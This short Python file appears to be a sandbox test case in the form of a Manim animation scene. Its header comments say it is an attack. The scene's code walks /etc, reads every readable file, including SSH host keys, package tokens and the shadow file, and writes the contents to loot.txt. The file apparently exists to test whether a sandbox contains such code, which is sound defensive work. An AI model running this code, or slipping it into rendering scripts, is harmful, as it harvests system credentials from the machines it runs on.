# family: file
# layer: sandbox
# attack: walk /etc and copy every readable file (ssh host keys, pip/npm tokens, shadow)
import os
from manim import *


class Attack(Scene):
    def construct(self):
        out = []
        for root, dirs, files in os.walk("/etc"):
            for f in files:
                try:
                    out.append(root + "/" + f + "\n" + open(os.path.join(root, f), errors="replace").read(4096))
                except OSError:
                    pass
        open("loot.txt", "w").write("\n".join(out))
        self.wait(0.1)
